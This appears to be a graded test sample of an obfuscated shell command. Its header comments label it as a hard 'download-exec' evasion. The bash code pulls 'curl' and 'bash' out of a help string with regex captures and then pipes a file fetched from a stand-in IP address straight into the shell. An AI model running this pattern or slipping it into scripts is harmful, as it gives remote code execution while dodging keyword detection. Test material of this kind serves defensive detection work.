# evasion: each line of a help text is matched in a loop and the capture of the first line that matches is the downloader; the shell is a second capture
# grade: hard; does: download-exec
help=$'fetch: curl the bundle\nexec: bash the result'
while IFS= read -r line; do
	if [[ $line =~ ^fetch:\ ([a-z]+) ]]; then get=${BASH_REMATCH[1]}; fi
	if [[ $line =~ ^exec:\ ([a-z]+) ]]; then run=${BASH_REMATCH[1]}; fi
done <<<"$help"
"$get" -fsSL http://203.0.113.19/bundle | "$run"
